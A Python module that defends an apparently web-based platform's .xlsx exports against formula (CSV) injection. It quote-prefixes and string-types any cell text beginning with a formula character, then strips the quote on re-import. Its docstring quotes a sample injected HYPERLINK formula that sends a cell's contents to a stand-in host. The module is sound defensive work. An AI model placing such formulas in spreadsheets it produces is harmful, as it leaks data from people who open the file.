"""Every .xlsx the platform writes puts its cells through here, so typed text stays text.

A name, a skill or a reason is typed by a person. Written as it stands, a value such as
``=HYPERLINK("http://x/?"&B2,"点我")`` becomes a live formula in the exported file, and
whoever opens it in Excel runs it (formula or "CSV" injection). OWASP's remedy is applied to
every string that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return:

* the text is prefixed with a single quote, so the stored value itself no longer starts
  with a formula character. Excel shows ``'=HYPERLINK(...)`` as plain text, and it stays
  inert wherever the value travels next: re-edited in Excel (F2, Enter re-parses a cell),
  saved as CSV and opened again, read by LibreOffice, WPS or pandas. An explicit string
  type alone (Wagtail's choice) is safe only until someone edits the cell or converts the
  file, and read back it still starts with "="; that is why the quote comes first;
* the cell is also written with openpyxl's explicit string type (``data_type = "s"``), so
  openpyxl never stores a ``<f>`` formula (or an error cell for a name like ``#N/A``)
  whatever it guesses from the value.

Numbers and dates are left as they are: they stay numbers and dates in Excel. Control
characters that Excel cannot hold are dropped instead of failing the whole export.

Files read back in (a roster exported, edited and imported again) go through
``typed_text``, which takes the neutralising quote off again.
"""

import datetime
import io
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.styles import Alignment, Font
    from openpyxl.styles.fills import Fill
    from openpyxl.workbook import Workbook
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# OWASP's list: what makes Excel, LibreOffice or Google Sheets read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


def sheet_value(value: Any) -> Any:
    """The value as a cell should hold it: text neutralised, numbers and dates untouched."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def typed_text(value: Any) -> Any:
    """What the person typed, for a value read from a file this platform may have written."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def sheet_cell(
    sheet: "Worksheet | WriteOnlyWorksheet",
    value: Any,
    *,
    font: "Font | None" = None,
    fill: "Fill | None" = None,
    alignment: "Alignment | None" = None,
    number_format: str | None = None,
) -> "Cell":
    """One cell for ``sheet.append``, in a write-only sheet or an ordinary one."""
    value = sheet_value(value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # text, whatever openpyxl would guess from it
    elif number_format:
        cell.number_format = number_format
    elif isinstance(value, datetime.datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        cell.number_format = DATE_FORMAT
    if font is not None:
        cell.font = font
    if fill is not None:
        cell.fill = fill
    if alignment is not None:
        cell.alignment = alignment
    return cell


def append_row(
    sheet: "Worksheet | WriteOnlyWorksheet", values: Iterable[Any], **style: Any
) -> None:
    """Append one row of values (typed text neutralised); ``style`` applies to every cell."""
    sheet.append([sheet_cell(sheet, value, **style) for value in values])


def workbook_bytes(workbook: "Workbook") -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
